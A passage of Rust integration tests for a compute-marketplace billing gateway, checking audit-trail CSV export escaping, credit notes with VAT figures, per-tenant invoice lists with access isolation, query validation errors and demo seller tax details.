            &format!("/v1/admin/accounts/{buyer}/deposits"),
            json!({"amount": "1.00"}),
            &format!("csv-{k}"),
            rid,
        )
        .await;
        assert_eq!((s, echoed.as_str()), (201, *rid), "{v}");
    }
    let (s, trail, _) = read(&app, &finance_key).await;
    assert_eq!(s, 200);
    let json_ids: Vec<&str> = trail
        .as_array()
        .expect("entries")
        .iter()
        .filter(|e| e["action"] == "deposit")
        .map(|e| e["actor"]["request_id"].as_str().expect("id"))
        .collect();
    assert_eq!(json_ids, ids, "JSON keeps the ids as sent");
    let c = app.client(Some(&finance_key));
    let csv = c
        .http
        .get(format!(
            "{}/v1/reports/audit-trail?from=0&format=csv",
            c.base
        ))
        .bearer_auth(&finance_key)
        .send()
        .await
        .expect("csv")
        .text()
        .await
        .expect("text");
    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
    let column = reader
        .headers()
        .expect("header")
        .iter()
        .position(|h| h == "request_id")
        .expect("request_id column");
    let cells: Vec<String> = reader
        .records()
        .map(|r| r.expect("row")[column].to_string())
        .filter(|c| !c.chars().all(|ch| ch.is_ascii_hexdigit() || ch == '-'))
        .collect();
    let expected: Vec<String> = ids.iter().map(|id| format!("'{id}")).collect();
    assert_eq!(cells, expected, "{csv}");
}

/// A decimal field of a JSON document (amounts print as decimal strings).
fn dec(v: &Value) -> rust_decimal::Decimal {
    v.as_str()
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("a decimal string: {v}"))
}

/// Issue 25, docs/settlement.md "Credit notes": a goodwill credit restating period 1 becomes
/// a credit note at period 2's close, against the buyer's invoice 1 (not its period-2
/// invoice, though that one has charges too): gross −1.00, VAT round(1.00 × 6/106 =
/// 0.0566) = −0.06, net −0.94, 负壹元整. The other buyer, invoiced only at 0.00, gets none
/// and cannot read the first buyer's (404). Each account lists its own documents
/// (`GET /v1/invoices`), finance every account's or one's.
#[tokio::test]
async fn credit_notes_and_each_accounts_document_list() {
    let app = TestApp::start(Backend::Embedded, quiet_opts()).await;
    let (a, a_key) = app.account("team-a", "buyer").await;
    let (b, b_key) = app.account("team-b", "buyer").await;
    let (supplier, supplier_key) = app.account("idc-1", "supplier").await;
    let (_, fin) = app.account("books", "finance").await;
    app.deposit(&a, "100000.00").await;
    app.deposit(&b, "50.00").await;
    listed_node(
        &app.client(Some(&supplier_key)),
        "n1",
        "H100-80G",
        1,
        "cn-east-2",
        "3600",
    )
    .await;
    let (s, v, _) = app
        .client(Some(&a_key))
        .post(
            "/v1/bids",
            bid("b1", "H100-80G", 1, "3600", "spot", "ioc"),
            None,
        )
        .await;
    assert_eq!((s, v["filled_gpus"].as_u64()), (201, Some(1)), "{v}");
    tokio::time::sleep(std::time::Duration::from_millis(1_100)).await;
    let periods = "/v1/finance/periods";
    let close = |key: &'static str, from: String| {
        let fin = fin.clone();
        let app = &app;
        async move {
            tokio::time::sleep(std::time::Duration::from_millis(5)).await;
            let (s, v) = post(
                app,
                &fin,
                periods,
                json!({"from": from, "to": now_ms().to_string()}),
                Some(key),
            )
            .await;
            assert_eq!(s, 201, "{v}");
            v
        }
    };
    let p1 = close("close-1", "2026-01-01".into()).await;
    assert_eq!(
        p1["invoices"],
        json!({ a.clone(): 1, b.clone(): 2 }),
        "{p1}"
    );
    assert_eq!(p1["credit_notes"], json!([]), "{p1}");

    let adj = "/v1/finance/adjustments";
    for (account, amount, reference, key) in [
        (&a, "1.00", Some("period:1"), "gw-a"),
        (&b, "5.00", None, "gw-b"),
    ] {
        let mut body = json!({"kind": "goodwill_credit", "account": account,
            "amount": amount, "reason": "outage apology"});
        if let Some(r) = reference {
            body["reference"] = json!(r);
        }
        let (s, v) = post(&app, &fin, adj, body, Some(key)).await;
        assert_eq!(s, 201, "{v}");
    }
    // A second of the lease starts in period 2 for sure: the supplier has a statement there
    // and the buyer's period-2 invoice charges (the credit still corrects invoice 1).
    tokio::time::sleep(std::time::Duration::from_millis(1_100)).await;
    let p2 = close("close-2", p1["to_ms"].to_string()).await;
    assert_eq!(
        p2["invoices"],
        json!({ a.clone(): 3, b.clone(): 4 }),
        "{p2}"
    );
    assert_eq!(
        p2["credit_notes"],
        json!([{"account": a, "number": 1, "corrects": {"period": 1, "number": 1},
                "gross": "-1.00"}]),
        "{p2}"
    );

    // The buyer reads its credit note; the figures are the hand-computed ones.
    let path = format!("/v1/finance/periods/2/credit-notes/{a}");
    let (s, cn, _) = app.client(Some(&a_key)).get(&path).await;
    assert_eq!(s, 200, "{cn}");
    assert_eq!(
        (&cn["kind"], &cn["number"], &cn["corrects"]),
        (
            &json!("credit_note"),
            &json!(1),
            &json!({"period": 1, "number": 1})
        )
    );
    let t = &cn["totals"];
    assert_eq!(
        (dec(&t["net"]), dec(&t["vat"]), dec(&t["gross"])),
        (
            "-0.94".parse().expect("d"),
            "-0.06".parse().expect("d"),
            "-1.00".parse().expect("d")
        ),
        "{cn}"
    );
    assert_eq!(t["gross_in_words"], "负壹元整");
    let (s, _, h) = app
        .client(Some(&a_key))
        .get(&format!("{path}?format=csv"))
        .await;
    assert_eq!(s, 200);
    assert_eq!(
        h["content-disposition"],
        "attachment; filename=\"credit-note-1.csv\""
    );
    let (s, _, _) = app
        .client(Some(&fin))
        .get(&format!("{path}?number=1"))
        .await;
    assert_eq!(s, 200);

    // Other tenants, other numbers, bad input: a code each.
    let b_path = format!("/v1/finance/periods/2/credit-notes/{b}");
    for (key, p, status, code) in [
        (&b_key, path.clone(), 404, "not_found"),
        (&supplier_key, path.clone(), 404, "not_found"),
        (&b_key, b_path.clone(), 404, "not_found"),
        (&fin, b_path, 404, "not_found"),
        (&fin, format!("{path}?number=2"), 404, "not_found"),
        (
            &fin,
            format!("/v1/finance/periods/1/credit-notes/{a}"),
            404,
            "not_found",
        ),
        (
            &fin,
            format!("/v1/finance/periods/9/credit-notes/{a}"),
            404,
            "not_found",
        ),
        (&fin, format!("{path}?number=x"), 400, "invalid_number"),
        (&fin, format!("{path}?format=doc"), 400, "invalid_format"),
        (
            &fin,
            format!("{path}?tz=Mars/Base"),
            400,
            "invalid_time_zone",
        ),
        (&fin, format!("{path}?page=2"), 400, "bad_query"),
    ] {
        let (s, v, _) = app.client(Some(key)).get(&p).await;
        assert_eq!((s, v["code"].as_str()), (status, Some(code)), "{p}: {v}");
    }

    // Each account lists its own documents, newest period first, with download paths.
    let list = |key: &str, query: &str| {
        let c = app.client(Some(key));
        let q = query.to_string();
        async move {
            let (s, v, _) = c.get(&format!("/v1/invoices{q}")).await;
            (s, v)
        }
    };
    let summary = |v: &Value| -> Vec<(u64, String, u64, String)> {
        v["documents"]
            .as_array()
            .expect("documents")
            .iter()
            .map(|d| {
                (
                    d["period"].as_u64().expect("period"),
                    d["kind"].as_str().expect("kind").to_string(),
                    d["number"].as_u64().expect("number"),
                    d["account"].as_str().expect("account").to_string(),
                )
            })
            .collect()
    };
    // Found in review: finance naming an account that does not exist got 200 and an empty list.
    let (s, v) = list(&fin, "?account=424242").await;
    assert_eq!((s, v["code"].as_str()), (404, Some("not_found")), "{v}");
    let (s, mine) = list(&a_key, "").await;
    assert_eq!(s, 200, "{mine}");
    assert_eq!(
        summary(&mine),
        vec![
            (2, "invoice".into(), 3, a.clone()),
            (2, "credit_note".into(), 1, a.clone()),
            (1, "invoice".into(), 1, a.clone()),
        ]
    );
    assert_eq!(
        (&mine["time_zone"], &mine["truncated"]),
        (&json!("Asia/Shanghai"), &json!(false))
    );
    let docs = mine["documents"].as_array().expect("documents");
    assert_eq!(docs[1]["gross"], "-1.00");
    assert_eq!(docs[1]["corrects"], json!({"period": 1, "number": 1}));
    assert_eq!(docs[1]["path"], format!("{path}?number=1"));
    assert_eq!(
        docs[2]["path"],
        format!("/v1/finance/periods/1/invoices/{a}")
    );
    assert_eq!(docs[2]["from_date"], "2026-01-01");
    assert_eq!(docs[2]["from_ms"], p1["from_ms"]);
    assert!(
        dec(&docs[0]["gross"]) > rust_decimal::Decimal::ZERO,
        "{mine}"
    );
    assert!(
        dec(&docs[2]["gross"]) > rust_decimal::Decimal::ZERO,
        "{mine}"
    );
    assert!(docs[2].get("corrects").is_none(), "{mine}");
    for d in docs {
        let (s, _, _) = app
            .client(Some(&a_key))
            .get(d["path"].as_str().expect("path"))
            .await;
        assert_eq!(s, 200, "{d}");
    }
    let (s, theirs) = list(&b_key, &format!("?account={b}")).await;
    assert_eq!(s, 200, "{theirs}");
    assert_eq!(
        summary(&theirs),
        vec![
            (2, "invoice".into(), 4, b.clone()),
            (1, "invoice".into(), 2, b.clone()),
        ]
    );
    assert_eq!(theirs["documents"][0]["gross"], "0.00");
    let (s, v) = list(&supplier_key, "").await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(
        summary(&v),
        vec![
            (2, "self_billing".into(), 2, supplier.clone()),
            (1, "self_billing".into(), 1, supplier.clone()),
        ]
    );
    let (s, v) = list(&fin, &format!("?account={a}")).await;
    assert_eq!((s, &v), (200, &mine));
    let (s, v) = list(&fin, "").await;
    assert_eq!((s, summary(&v).len()), (200, 7), "{v}");
    for (key, query, status, code) in [
        (&b_key, format!("?account={a}"), 404, "not_found"),
        (&fin, "?account=abc".to_string(), 400, "invalid_account"),
        (&fin, "?tz=Mars/Base".to_string(), 400, "invalid_time_zone"),
        (&fin, "?limit=3".to_string(), 400, "bad_query"),
    ] {
        let (s, v) = list(key, &query).await;
        assert_eq!(
            (s, v["code"].as_str()),
            (status, Some(code)),
            "{query}: {v}"
        );
    }
}

/// Issue 25: `--demo` prints filing-shaped invoices: its seller details carry a well-formed
/// 统一社会信用代码 and every field; a configured seller is kept.
#[test]
fn the_demo_seller_is_filing_shaped_and_a_configured_one_wins() {
    let demo = gateway::demo::demo_platform();
    assert_eq!(demo.taxpayer_id.len(), 18);
    assert_eq!(gateway::tax::taxpayer_id_error(&demo.taxpayer_id), None);
    for field in [
        &demo.name,
        &demo.address,
        &demo.phone,
        &demo.bank,
        &demo.bank_account,
    ] {
        assert!(!field.is_empty(), "{demo:?}");
    }
    let unset = gateway::api::ApiConfig::default();
    assert_eq!(
        gateway::demo::with_demo_seller(unset).invoice.platform,
        demo
    );
    let mut configured = gateway::api::ApiConfig::default();
    configured.invoice.platform = gateway::tax::TaxDetails::named("上海算力交易所有限公司");
    let kept = configured.invoice.platform.clone();
    assert_eq!(
        gateway::demo::with_demo_seller(configured).invoice.platform,
        kept
    );
}
